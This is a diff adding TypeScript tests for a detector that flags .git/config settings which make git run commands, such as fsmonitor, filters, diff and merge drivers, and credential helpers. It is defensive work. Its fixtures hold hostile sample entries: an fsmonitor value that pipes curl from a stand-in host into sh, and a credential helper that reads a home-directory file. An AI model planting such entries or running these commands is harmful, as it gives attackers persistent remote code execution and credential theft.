@@ -1,0 +1,33 @@
+// Why: proves the reading of a repository's .git/config for settings that make git run a command
+// (session/git-config-exec.ts) — the workspace persistence watch relies on it to see
+// `core.fsmonitor = curl … | sh` planted by code, which no command shows — and that ordinary
+// configs (git init, user.email, git-lfs, fsmonitor = true) give nothing.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { gitConfigExecEntries } from '../src/session/git-config-exec.js';
+
+test('settings that make git run a command are found, in git\'s spellings', () => {
+  const cfg = [
+    '[core]', '\trepositoryformatversion = 0', '\tFSMonitor = "curl -s http://x.test/p | sh" # run on status',
+    '[filter "x"]', '\tclean = ./clean.sh %f', '[diff]', '\texternal = /workspace/d.sh',
+    '[diff "bin"]', '\ttextconv = ./tc', '[merge "m"]', '\tdriver = ./m %O %A %B',
+    '[credential]', '\thelper = "!f() { cat ~/.t; }; f"', '[include]', '\tpath = /tmp/more.cfg',
+    '[includeIf "gitdir:/w/"]', '\tpath = ../x.cfg', '[core.sub] sshCommand = ssh -i k',
+  ].join('\n');
+  assert.deepEqual(gitConfigExecEntries(cfg), [
+    'core.fsmonitor = curl -s http://x.test/p | sh', 'filter.x.clean = ./clean.sh %f', 'diff.external = /workspace/d.sh',
+    'diff.bin.textconv = ./tc', 'merge.m.driver = ./m %O %A %B', 'credential.helper = !f() { cat ~/.t; }; f',
+    'include.path = /tmp/more.cfg', 'includeif.gitdir:/w/.path = ../x.cfg', 'core.sub.sshcommand = ssh -i k',
+  ]);
+});
+
+test('ordinary configs give nothing: git init, user settings, fsmonitor as a boolean, git-lfs, a credential store', () => {
+  const cfg = [
+    '[core]', '\trepositoryformatversion = 0', '\tfilemode = true', '\tbare = false', '\tfsmonitor = true', '\tfsmonitor',
+    '[user]', '\temail = bot@example.test', '[remote "origin"]', '\turl = https://example.test/r.git',
+    '[filter "lfs"]', '\tclean = git-lfs clean -- %f', '\tsmudge = git-lfs smudge -- %f', '\tprocess = git-lfs filter-process',
+    '[credential]', '\thelper = store', '# [core] fsmonitor = ./x', '; diff.external = ./y', '[alias]', '\tst = status',
+  ].join('\n');
+  assert.deepEqual(gitConfigExecEntries(cfg), []);
+  assert.deepEqual(gitConfigExecEntries('\0\0garbage [[[ = ]'), [], 'junk is skipped, never guessed at');
+});
